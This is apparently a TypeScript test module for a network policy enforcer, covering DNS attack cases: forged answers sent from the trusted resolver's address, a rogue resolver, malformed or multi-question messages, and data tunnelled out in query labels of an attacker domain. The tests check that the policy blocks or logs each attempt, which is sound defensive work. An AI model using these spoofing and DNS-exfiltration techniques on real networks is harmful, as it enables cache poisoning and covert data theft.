/** N9 to N13: answers that teach what they should not, and questions that carry what they should not. */
import { CLIENT4, DNS4, ROGUE4 } from "../support/addresses.ts";
import { encodeReply } from "../support/dns-encode.ts";
import { udp as datagram, TCP, UDP } from "../support/ip-packets.ts";
import { policy } from "../support/policies.ts";
import { sleep } from "../support/run.ts";
import type { ZoneRecord } from "../support/zone.ts";
import { hello } from "./hellos.ts";
import { noAnswers } from "./nft.ts";
import { byName } from "./policies.ts";
import type { Row, Tried } from "./row.ts";
import { deniedOf } from "./runner.ts";
import { question, type Scene, type Scripted } from "./scene.ts";
import { told } from "./sockets.ts";
import type { Target } from "./target.ts";

const hex = (bytes: Buffer) => bytes.toString("hex");
const FORGED_ID = 4660;
const ROGUE = { name: "own-resolver", to: { cidr: `${ROGUE4}/32`, ports: 53 } };

/** The allowed name's answer, with the address that the attacker wants. */
function lie({ good, evil }: Target, name = good.name): Buffer {
	const answers = [{ name, type: "A", data: evil.v4 } as const];
	return encodeReply({ id: FORGED_ID, flags: 0x0480, question: { name, type: "A" }, answers, edns: false });
}

/** After whatever was to teach it: the allowed name's hello to the attacker's address. */
async function thenHello(scene: Scene, { good, evil }: Target, waited?: Scripted): Promise<Tried> {
	if (waited?.read === "") throw new Error("the forged answer did not arrive");
	return told([{ address: evil.v4 }], await scene.hello(evil.v4, hello(good.name)));
}

/** A datagram from the other side, as if from a resolver, to a socket that waits on a port. */
async function forgeTo(scene: Scene, port: number, from: string, reply: Buffer): Promise<void> {
	const bytes = hex(datagram(from, CLIENT4, [53, port], reply));
	await scene.far("raw4,255", ["header", `sendto=${CLIENT4},0,${bytes}`]);
}

const asked = (t: Target, to: string) => `sendto=${to},53,${hex(question(t.good.name, "A", FORGED_ID))}`;

const taught: Row[] = [
	{
		id: "N9a",
		title: "an answer that nobody asked for, from the trusted resolver's address",
		kind: "stop",
		who: "an attacker on the path, or outside",
		policy: byName,
		run: async (scene, t) => {
			const waits = scene.script("udp4", ["bind=0.0.0.0,47000", "read=1500"]);
			await sleep(400);
			await forgeTo(scene, 47_000, DNS4, lie(t));
			return thenHello(scene, t, await waits);
		},
	},
	{
		id: "N9b",
		title: "the right id, resolver and name, but on another socket than asked",
		kind: "stop",
		who: "Kaminsky, 2008",
		policy: byName,
		run: async (scene, t) => {
			const waits = scene.script("udp4", [asked(t, DNS4), "new=udp4", "bind=0.0.0.0,47001", "read=1500"]);
			await sleep(400);
			await forgeTo(scene, 47_001, DNS4, lie(t));
			return thenHello(scene, t, await waits);
		},
	},
	{
		id: "N9c",
		title: "the right socket and id, but from an address that was not asked",
		kind: "stop",
		policy: (t) => byName(t, [{ name: "silent", to: { cidr: "198.51.100.77/32", ports: 53 } }]),
		run: async (scene, t) => {
			const waits = scene.script("udp4", ["bind=0.0.0.0,47002", asked(t, "198.51.100.77"), "read=1500"]);
			await sleep(400);
			await forgeTo(scene, 47_002, DNS4, lie(t));
			return thenHello(scene, t, await waits);
		},
	},
	{
		id: "N9d",
		title: "the attacker's name was asked, the allowed one is answered",
		kind: "stop",
		policy: byName,
		run: async (scene, t) => {
			const name = `attacker.${t.evil.name}`;
			const undo = noAnswers(scene);
			try {
				const steps = ["bind=0.0.0.0,47003", `sendto=${DNS4},53,${hex(question(name, "A", FORGED_ID))}`, "read=1500"];
				const waits = scene.script("udp4", steps);
				await sleep(400);
				await forgeTo(scene, 47_003, DNS4, lie(t));
				return await thenHello(scene, t, await waits);
			} finally {
				undo();
			}
		},
	},
	{
		id: "N10",
		title: "the process asks a resolver of its own, which answers with the attacker's address",
		kind: "stop",
		who: "any user with a server",
		policy: (t) => byName(t, [ROGUE]),
		run: async (scene, t) => {
			await scene.zone({ [t.good.name]: [{ type: "A", data: t.evil.v4 }] });
			await scene.ask(t.good.name, { resolver: ROGUE4 });
			await scene.zone({});
			return thenHello(scene, t);
		},
	},
];

/** An answer of another form teaches as well. */
function teaches(
	id: string,
	title: string,
	zone: (t: Target) => Record<string, readonly ZoneRecord[]>,
	how?: How,
): Row {
	return {
		id,
		title,
		kind: "pass",
		policy: byName,
		run: async (scene, t) => {
			await scene.zone(zone(t));
			await (how ?? ((own, { good }) => own.ask(good.name)))(scene, t);
			await scene.zone({});
			const outcome = await scene.hello(t.good.v4, hello(t.good.name));
			const arrived = await scene.stage.bytesAt({ at: t.good.v4 });
			return { ...told([{ address: t.good.v4 }], outcome), ok: arrived > 0 };
		},
	};
}

type How = (scene: Scene, target: Target) => Promise<unknown>;

function chain({ good }: Target, length: number, ttl: number): Record<string, readonly ZoneRecord[]> {
	const at = (step: number) => (step === 0 ? good.name : `step${step}.${good.name}`);
	const links = Array.from({ length }, (_, step) => [at(step), [{ type: "CNAME", data: at(step + 1) }]] as const);
	return { ...Object.fromEntries(links), [at(length)]: [{ type: "A", data: good.v4, ttl }] };
}

const overTcp =
	(prefix = ""): How =>
	(scene, { good }) => {
		const message = question(`${prefix}${good.name}`);
		const framed = Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message]);
		return scene.script("tcp4", [`connect=${DNS4},53`, `send=${hex(framed)}`, "read=500", "read=200"]);
	};

const forms: Row[] = [
	teaches("N11a", "a CNAME chain of eight", (t) => chain(t, 8, 60)),
	teaches("N11b", "a chain whose last record has a TTL of 0", (t) => chain(t, 3, 0)),
	teaches("N11c", "an answer of thirty addresses, the last is taken", ({ good, nameless }) => ({
		[good.name]: [
			...Array.from({ length: 29 }, (_, at) => ({ type: "A", data: nameless.v4.replace(/\d+$/, String(at)) }) as const),
			{ type: "A", data: good.v4 },
		],
	})),
	teaches(
		"N11d",
		"the name in mixed case (0x20)",
		() => ({}),
		(scene, { good }) => scene.ask([...good.name].map((c, at) => (at % 2 ? c.toUpperCase() : c)).join("")),
	),
	{
		...teaches(
			"N11e",
			"one question to two resolvers with one id, as musl sends it",
			() => ({}),
			(scene, t) => scene.script("udp4", [asked(t, DNS4), asked(t, ROGUE4), "read=500", "read=500"]),
		),
		policy: (t) => byName(t, [ROGUE]),
	},
	teaches(
		"N12a",
		"a question with EDNS",
		() => ({}),
		(scene, { good }) => {
			const message = question(good.name);
			message.writeUInt16BE(1, 10);
			const opt = Buffer.from("00002904d0000000000000", "hex");
			return scene.script("udp4", [`connect=${DNS4},53`, `send=${hex(Buffer.concat([message, opt]))}`, "read=500"]);
		},
	),
];

const stream: Row[] = [
	teaches("N12b", "an answer over TCP", () => ({}), overTcp()),
	{
		...teaches("N12c", "an answer over TCP, in two pieces", () => ({}), overTcp("split-")),
		policy: (t) => byName(split(t)),
		run: async (scene, t) => {
			await scene.zone({ [split(t).good.name]: [{ type: "A", data: t.good.v4 }] });
			await overTcp("split-")(scene, t);
			await scene.zone({});
			const outcome = await scene.hello(t.good.v4, hello(split(t).good.name));
			const arrived = await scene.stage.bytesAt({ at: t.good.v4 });
			return { ...told([{ address: t.good.v4 }], outcome), ok: arrived > 0 };
		},
	},
];

function split(t: Target): Target {
	return { ...t, good: { ...t.good, name: `split-${t.good.name}` } };
}

/** Bytes for the trusted resolver that must not reach it. */
function unasked(
	id: string,
	title: string,
	who: string,
	send: (t: Target) => readonly string[],
	over: "udp" | "tcp" = "udp",
	whole: (t: Target) => number = () => 0,
): Row {
	return {
		id,
		title,
		kind: "stop",
		who,
		policy: (t) =>
			byName(t, [{ name: "no-question", action: "deny", phases: ["dns"], to: { domain: `**.${t.evil.name}` } }]),
		run: async (scene, t) => {
			const place = { address: DNS4, protocol: over === "udp" ? UDP : TCP, port: 53 };
			const { result, bytes } = await scene.during(place, () =>
				scene.script(`${over}4`, [`connect=${DNS4},53`, ...send(t), "read=300"]),
			);
			/* Pieces of a message pass; without its end it is no question. */
			const asked = bytes < whole(t) ? 0 : bytes;
			return { ...told([], result), measured: { bytes: asked, recorded: await deniedOf(scene, result) } };
		},
	};
}

const SECRET = "6e6f742d666f722d796f75";
const tunnel = (t: Target) => `${SECRET}.${SECRET}.${t.evil.name}`;

function framed(message: Buffer): Buffer {
	return Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message]);
}

/** Header of a message with so many questions. */
function head(questions: number): Buffer {
	return Buffer.from([0, 1, 1, 0, 0, questions, 0, 0, 0, 0, 0, 0]);
}

const carried: Row[] = [
	unasked("N12d", "two questions in one message, the second one denied", "scapy", (t) => [
		`send=${hex(Buffer.concat([head(2), question(t.good.name).subarray(12), question(tunnel(t)).subarray(12)]))}`,
	]),
	unasked("N12e", "a name that is a compression loop", "scapy", () => [
		`send=${hex(Buffer.concat([head(1), Buffer.from("c00c00010001", "hex"), Buffer.from(SECRET)]))}`,
	]),
	unasked("N12f", "something that is no DNS, to the resolver's port", "a tunnel", () => [
		`send=${hex(Buffer.from("not DNS at all, not at all"))}`,
	]),
	unasked("N13a", "data in the labels of a question, denied by phase dns", "iodine, dnscat2", (t) => [
		`send=${hex(question(tunnel(t)))}`,
	]),
	unasked("N13b", "the same in upper case, as TXT", "iodine, dnscat2", (t) => [
		`send=${hex(question(tunnel(t).toUpperCase(), "TXT"))}`,
	]),
	{
		id: "N13c",
		title: "data in labels where phase dns denies nothing: it is seen and counted",
		kind: "pass",
		policy: byName,
		run: async (scene, t) => {
			const name = tunnel(t);
			const outcome = await scene.script("udp4", [`connect=${DNS4},53`, `send=${hex(question(name))}`, "read=500"]);
			const seen = await scene.stage.record({ kind: "dns", name });
			return {
				...told([], outcome),
				ok: seen.verdict === "allow" && outcome.read !== "",
				measured: { bytes: outcome.read.length / 2, recorded: `${seen.verdict} dns: ${seen.reason}` },
			};
		},
	},
	{
		id: "N13d",
		title: "dns: deny by default, one name allowed: that one",
		kind: "pass",
		policy: (t) => byName(t).replace('"dns": "allow"', '"dns": "deny"'),
		run: async (scene, t) => {
			const answer = await scene.ask(t.good.name);
			return { at: [{ address: DNS4 }], ok: answer !== "", told: answer === "" ? "no answer" : "answered" };
		},
	},
];

const carriedByTcp: Row[] = [
	{
		...unasked("N12j", "two denied questions in one send (UDP_SEGMENT), where only a rule denies", "any user", (t) => {
			const message = question(tunnel(t));
			return [`gso=${message.length}`, `send=${hex(message)}${hex(message)}`];
		}),
		policy: (t) =>
			policy({
				defaults: { connect: "allow" },
				rules: [{ name: "no-question", action: "deny", to: { domain: `**.${t.evil.name}` } }],
			}),
	},
	unasked("N12g", "a denied question over TCP", "dig +tcp", (t) => [`send=${hex(framed(question(tunnel(t))))}`], "tcp"),
	unasked(
		"N12h",
		"a denied question over TCP, a segment a byte",
		"a tunnel",
		(t) => [`each=${hex(framed(question(tunnel(t))))}`],
		"tcp",
		(t) => framed(question(tunnel(t))).length,
	),
	unasked(
		"N12i",
		"something that is no DNS, over TCP to the resolver's port",
		"a tunnel",
		() => [`send=${hex(Buffer.from("GET /not-dns HTTP/1.1\r\n\r\n"))}`],
		"tcp",
	),
];

export const NAMES_DNS: readonly Row[] = [...taught, ...forms, ...carried];
/** Need DNS over TCP to be read. */
export const NAMES_DNS_TCP: readonly Row[] = [...stream, ...carriedByTcp];
